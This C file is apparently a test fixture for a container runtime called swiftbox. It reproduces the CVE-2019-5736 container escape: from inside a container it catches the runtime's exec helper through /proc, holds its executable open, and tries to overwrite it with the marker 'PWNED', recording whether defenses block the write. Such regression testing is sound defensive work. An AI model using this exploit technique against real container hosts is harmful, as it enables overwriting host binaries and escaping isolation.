// CVE-2019-5736 through the exec helper, for the tests: a container's main process that
// watches /proc for a process whose executable is not one of the container's (the
// helper swiftbox clones into the container's namespaces for `exec`, between its clone
// and its execve), holds that executable open (O_PATH), waits for the helper to go, and
// then tries to reopen it for writing through /proc/self/fd/N and write "PWNED" over
// its first bytes. Opening another process's /proc/PID/exe takes ptrace access: in a
// default container the helper (not dumpable, more capabilities) refuses it; with
// CAP_SYS_PTRACE (--privileged) nothing does. Lines in /out/result:
//   caught pid=N ro=0|1 sealed=0|1
//   final wrote | final denied ERRNO | final busy
// then it sleeps, so the container keeps running. Built with gcc -static by the tests.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <unistd.h>

static struct stat own, busybox;

static int ours(const struct stat *st) {
    return (st->st_dev == own.st_dev && st->st_ino == own.st_ino) ||
           (st->st_dev == busybox.st_dev && st->st_ino == busybox.st_ino);
}

/// Wait until process `pid` runs something else than the file `held`, or is gone.
static void wait_gone(const char *pid, const struct stat *held) {
    char path[300];
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    for (int i = 0; i < 2000; i++) {
        struct stat st;
        if (stat(path, &st) < 0 || st.st_dev != held->st_dev || st.st_ino != held->st_ino) return;
        usleep(10000);
    }
}

static void attack(FILE *out, const char *pid, int fd) {
    struct stat held;
    fstat(fd, &held);
    struct statvfs vfs;
    int ro = fstatvfs(fd, &vfs) == 0 && (vfs.f_flag & ST_RDONLY);
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    int probe = open(path, O_RDONLY | O_CLOEXEC);
    int seals = probe >= 0 ? fcntl(probe, F_GET_SEALS) : -1;
    if (probe >= 0) close(probe);
    fprintf(out, "caught pid=%s ro=%d sealed=%d\n", pid, ro, seals > 0 && (seals & F_SEAL_WRITE));
    wait_gone(pid, &held);
    // ETXTBSY while any process runs the file: the swiftbox command that launched the
    // helper waits for its program, so this succeeds once that command is done.
    for (int i = 0; i < 600; i++) {
        int w = open(path, O_WRONLY | O_CLOEXEC);
        if (w < 0 && errno == ETXTBSY) { usleep(50000); continue; }
        if (w < 0) { fprintf(out, "final denied %d\n", errno); return; }
        ssize_t n = pwrite(w, "PWNED", 5, 0);
        if (n == 5) fprintf(out, "final wrote\n");
        else fprintf(out, "final denied %d\n", errno);
        close(w);
        return;
    }
    fprintf(out, "final busy\n");
}

int main(void) {
    FILE *out = fopen("/out/result", "a");
    if (!out) return 1;
    setvbuf(out, NULL, _IOLBF, 0);
    if (stat("/proc/self/exe", &own) < 0 || stat("/bin/busybox", &busybox) < 0) return 1;
    char self[16];
    snprintf(self, sizeof self, "%d", getpid());
    for (;;) {
        DIR *d = opendir("/proc");
        if (!d) return 1;
        struct dirent *e;
        while ((e = readdir(d)) != NULL) {
            if (e->d_name[0] < '1' || e->d_name[0] > '9' || strcmp(e->d_name, self) == 0) continue;
            char path[300];
            snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
            int fd = open(path, O_PATH | O_CLOEXEC);
            if (fd < 0) continue;
            struct stat st;
            if (fstat(fd, &st) < 0 || ours(&st)) { close(fd); continue; }
            closedir(d);
            attack(out, e->d_name, fd);
            for (;;) pause();
        }
        closedir(d);
    }
}
